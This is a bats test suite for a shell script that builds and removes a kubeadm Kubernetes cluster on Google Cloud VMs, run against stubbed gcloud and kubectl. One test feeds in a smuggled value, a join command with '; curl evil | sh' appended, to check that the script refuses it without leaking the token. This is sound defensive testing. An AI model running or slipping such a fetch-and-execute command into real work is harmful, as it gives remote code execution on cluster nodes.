#!/usr/bin/env bats
# scripts/kubernetes.sh against stubbed gcloud/kubectl (no cloud, no cluster).

# shellcheck disable=SC2154 # $stderr is set by bats' run --separate-stderr
load test_helper

setup() {
  common_setup
  SCRIPT="$REPO/scripts/kubernetes.sh"
}

P="--project=test-project"
Z="--zone=europe-west1-b"
SSH="$P $Z --quiet --command"
TOKEN="abcdef.0123456789abcdef"
JOIN="kubeadm join 10.0.0.2:6443 --token $TOKEN --discovery-token-ca-cert-hash sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

expected_up() {
  local minor=${1:-v1.36} node
  echo "gcloud config get-value project"
  echo "gcloud auth list --filter=status:ACTIVE --format=value(account)"
  for node in my-k8s-master my-k8s-worker-1 my-k8s-worker-2; do
    echo "gcloud compute scp $P $Z --quiet <REPO>/scripts/node/install-kubernetes.sh <REPO>/scripts/node/kubeadm-node.sh $node:."
    echo "gcloud compute ssh $node $SSH=sudo env K8S_MINOR=$minor bash install-kubernetes.sh && rm -f install-kubernetes.sh"
  done
  cat <<CALLS
gcloud compute instances describe my-k8s-master $P $Z --format=get(networkInterfaces[0].accessConfigs[0].natIP)
gcloud compute ssh my-k8s-master $SSH=sudo bash kubeadm-node.sh init --pod-network-cidr 200.200.0.0/16 --apiserver-san 203.0.113.10
gcloud compute ssh my-k8s-master $SSH=sudo kubeadm token create --ttl=1h --print-join-command
gcloud compute ssh my-k8s-worker-1 $SSH=sudo bash kubeadm-node.sh join
gcloud compute ssh my-k8s-worker-2 $SSH=sudo bash kubeadm-node.sh join
gcloud compute ssh my-k8s-master $SSH=sudo cat /etc/kubernetes/admin.conf
kubectl config view --kubeconfig=<MKTEMP>/admin.conf --raw -o jsonpath={.clusters[0].cluster.certificate-authority-data}
kubectl config view --kubeconfig=<MKTEMP>/admin.conf --raw -o jsonpath={.users[0].user.client-certificate-data}
kubectl config view --kubeconfig=<MKTEMP>/admin.conf --raw -o jsonpath={.users[0].user.client-key-data}
kubectl config set-cluster my-k8s --server=https://203.0.113.10:6443 --certificate-authority=<MKTEMP>/ca --embed-certs=true
kubectl config set-credentials my-k8s-admin --client-certificate=<MKTEMP>/crt --client-key=<MKTEMP>/key --embed-certs=true
kubectl config set-context my-k8s --cluster=my-k8s --user=my-k8s-admin
kubectl config use-context my-k8s
CALLS
}

@test "kubernetes: usage on no/unknown arguments, exit 2" {
  for args in "" "install" "up down"; do
    # shellcheck disable=SC2086
    run --separate-stderr "$SCRIPT" $args
    assert_status 2
    assert_contains "$stderr" "usage: kubernetes.sh up|down"
  done
  assert_no_calls
}

@test "kubernetes up: install on every node, init master, join workers, merge kubeconfig" {
  run --separate-stderr "$SCRIPT" up
  assert_status 0
  expected_up | assert_calls
  assert_tmp_clean
}

@test "kubernetes up: the kubeconfig gets the CA, client cert and key from the master's admin.conf" {
  run --separate-stderr "$SCRIPT" up
  assert_status 0
  assert_calls < <(expected_up)
  run cat "$STUB_LOG.files"
  [ "$output" = "$(printf '%s\n' --certificate-authority=fake-ca --client-certificate=fake-crt --client-key=fake-key)" ]
}

@test "kubernetes up: K8S_MINOR and POD_NETWORK come from the environment" {
  K8S_MINOR=v1.33 POD_NETWORK=10.244.0.0/16 run --separate-stderr "$SCRIPT" up
  assert_status 0
  expected_up v1.33 | sed 's#--pod-network-cidr 200.200.0.0/16#--pod-network-cidr 10.244.0.0/16#' | assert_calls
}

@test "kubernetes up: a failing node install stops before the next node and before kubeadm init" {
  STUB_FAIL="gcloud compute ssh my-k8s-worker-1 *install-kubernetes.sh*" STUB_FAIL_MSG="E: Unable to locate package kubeadm" \
    run --separate-stderr "$SCRIPT" up
  assert_status 1
  assert_contains "$stderr" "E: Unable to locate package kubeadm"
  assert_contains "$stderr" "kubernetes.sh: error: installing Kubernetes on my-k8s-worker-1 failed"
  expected_up | head -6 | assert_calls
}

@test "kubernetes up: a failing kubeadm init stops before any join" {
  STUB_FAIL="gcloud compute ssh my-k8s-master *kubeadm-node.sh init*" run --separate-stderr "$SCRIPT" up
  assert_status 1
  assert_contains "$stderr" "error: kubeadm init on my-k8s-master failed"
  expected_up | head -10 | assert_calls
}

@test "kubernetes up: refuses a join command that does not look like one, without printing it" {
  STUB_JOIN_CMD="kubeadm join x --token $TOKEN; curl evil | sh" run --separate-stderr "$SCRIPT" up
  assert_status 1
  assert_contains "$stderr" "the join command from my-k8s-master does not have the expected form"
  assert_contains "$stderr" "(not shown: it holds a token)"
  [[ "$stderr$output" != *"$TOKEN"* ]] || { echo "the token was printed" >&2; return 1; }
  expected_up | head -11 | assert_calls
}

@test "kubernetes up: the join token reaches the workers on stdin only: never in a command line, never printed" {
  run --separate-stderr "$SCRIPT" up
  assert_status 0
  run grep -c -- "$TOKEN" "$STUB_LOG"
  [ "$output" = 0 ] || { echo "token in a command line:" >&2; grep -- "$TOKEN" "$STUB_LOG" >&2; return 1; }
  printf "%s\n" "my-k8s-worker-1: $JOIN " "my-k8s-worker-2: $JOIN " | diff - "$STUB_LOG.stdin"
  run --separate-stderr "$SCRIPT" up
  [[ "$stderr$output" != *"$TOKEN"* ]] || { echo "the token was printed" >&2; return 1; }
}

@test "kubernetes up: a re-run makes the same calls (the node side keeps and verifies what is there)" {
  run --separate-stderr "$SCRIPT" up
  assert_status 0
  : >"$STUB_LOG"
  run --separate-stderr "$SCRIPT" up
  assert_status 0
  expected_up | assert_calls
}

@test "kubernetes up: fails when the master has no external IP" {
  STUB_EXTERNAL_IP="" run --separate-stderr "$SCRIPT" up
  assert_status 1
  assert_contains "$stderr" "my-k8s-master has no external IPv4 address"
  expected_up | head -9 | assert_calls
}

@test "kubernetes up: a failing kubeconfig step stops with a message and removes the fetched admin credentials" {
  STUB_FAIL="kubectl config set-credentials *" run --separate-stderr "$SCRIPT" up
  assert_status 1
  assert_contains "$stderr" "error: adding user my-k8s-admin to your kubeconfig failed"
  expected_up | head -19 | assert_calls
  assert_tmp_clean
}

@test "kubernetes down: kubeadm reset on every node (workers first), then the context is removed" {
  run --separate-stderr "$SCRIPT" down
  assert_status 0
  assert_calls <<CALLS
gcloud config get-value project
gcloud auth list --filter=status:ACTIVE --format=value(account)
gcloud compute ssh my-k8s-worker-2 $SSH=if command -v kubeadm >/dev/null; then sudo kubeadm reset --force; fi; rm -f kubeadm-node.sh
gcloud compute ssh my-k8s-worker-1 $SSH=if command -v kubeadm >/dev/null; then sudo kubeadm reset --force; fi; rm -f kubeadm-node.sh
gcloud compute ssh my-k8s-master $SSH=if command -v kubeadm >/dev/null; then sudo kubeadm reset --force; fi; rm -f kubeadm-node.sh
kubectl config current-context
kubectl config unset current-context
kubectl config delete-context my-k8s
kubectl config delete-cluster my-k8s
kubectl config delete-user my-k8s-admin
CALLS
}

@test "kubernetes down: an unreachable node stops the script: no later node, no kubeconfig change" {
  STUB_FAIL="gcloud compute ssh my-k8s-worker-1 *" STUB_FAIL_RC=255 \
    STUB_FAIL_MSG="ssh: connect to host 34.76.1.2 port 22: Connection timed out" run --separate-stderr "$SCRIPT" down
  assert_status 1
  assert_contains "$stderr" "Connection timed out"
  assert_contains "$stderr" "error: kubeadm reset on my-k8s-worker-1 failed (exit 255)"
  assert_calls <<CALLS
gcloud config get-value project
gcloud auth list --filter=status:ACTIVE --format=value(account)
gcloud compute ssh my-k8s-worker-2 $SSH=if command -v kubeadm >/dev/null; then sudo kubeadm reset --force; fi; rm -f kubeadm-node.sh
gcloud compute ssh my-k8s-worker-1 $SSH=if command -v kubeadm >/dev/null; then sudo kubeadm reset --force; fi; rm -f kubeadm-node.sh
CALLS
}

@test "kubernetes up: an unreachable worker stops the install there: no later node, no kubeadm init" {
  STUB_FAIL="gcloud compute scp * my-k8s-worker-1:." STUB_FAIL_RC=1 \
    STUB_FAIL_MSG="ssh: connect to host 34.76.1.2 port 22: Connection timed out" run --separate-stderr "$SCRIPT" up
  assert_status 1
  assert_contains "$stderr" "error: copying install-kubernetes.sh and kubeadm-node.sh to my-k8s-worker-1 failed"
  expected_up | head -5 | assert_calls
}

@test "kubernetes: the default Kubernetes minor is v1.36 (supported until mid-2027), docs/gcp.md says so" {
  run --separate-stderr "$SCRIPT" up
  assert_status 0
  grep -q "K8S_MINOR=v1.36 bash install-kubernetes.sh" "$STUB_LOG"
  grep -q '^K8S_MINOR="${K8S_MINOR:-v1.36}"$' "$REPO/scripts/node/install-kubernetes.sh"
  grep -q '^| `K8S_MINOR` | `v1.36` |' "$REPO/docs/gcp.md"
}

@test "kubernetes: fails early without kubectl" {
  PATH="$(path_without kubectl)" run --separate-stderr "$SCRIPT" up
  assert_status 1
  assert_contains "$stderr" "'kubectl' not found on PATH"
  assert_no_calls
}

@test "kubernetes: fails early without gcloud" {
  PATH="$(path_without gcloud)" run --separate-stderr "$SCRIPT" down
  assert_status 1
  assert_contains "$stderr" "'gcloud' not found on PATH"
  assert_no_calls
}

@test "kubernetes: fails early without a project" {
  STUB_PROJECT="" run --separate-stderr "$SCRIPT" up
  assert_status 1
  assert_contains "$stderr" "no Google Cloud project set"
  assert_calls <<<"gcloud config get-value project"
}

@test "kubernetes: rejects a malformed K8S_MINOR before any call" {
  K8S_MINOR=1.36 run --separate-stderr "$SCRIPT" up
  assert_status 1
  assert_contains "$stderr" "K8S_MINOR='1.36' must look like v1.36"
  assert_no_calls
}
